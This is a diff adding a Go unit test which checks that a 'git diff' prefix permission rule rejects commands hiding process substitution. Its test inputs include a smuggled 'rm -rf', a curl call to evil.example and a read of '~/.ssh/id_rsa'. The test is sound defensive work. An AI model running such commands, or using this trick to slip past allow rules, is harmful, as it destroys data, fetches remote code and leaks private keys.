@@ -48,3 +48,15 @@ func TestARepositorysSnippetsRunOnlyOnceTrusted(t *testing.T) {
 		t.Errorf("with no way to trust, a repository's snippet ran: %q", ran)
 	}
 }
+
+func TestAPrefixRuleAllowsNoProcessSubstitution(t *testing.T) {
+	allowed := []string{"Bash(git diff:*)"}
+	for _, c := range []string{"git diff >(sh -c 'rm -rf x')", "git diff <(curl evil.example)", "git diff --no-index <(cat ~/.ssh/id_rsa) x"} {
+		if Allows(allowed, c) {
+			t.Errorf("Allows(%q) = true: a process substitution runs another command", c)
+		}
+	}
+	if !Allows(allowed, "git diff HEAD~1 -- main.go") {
+		t.Error("a plain git diff is not allowed")
+	}
+}
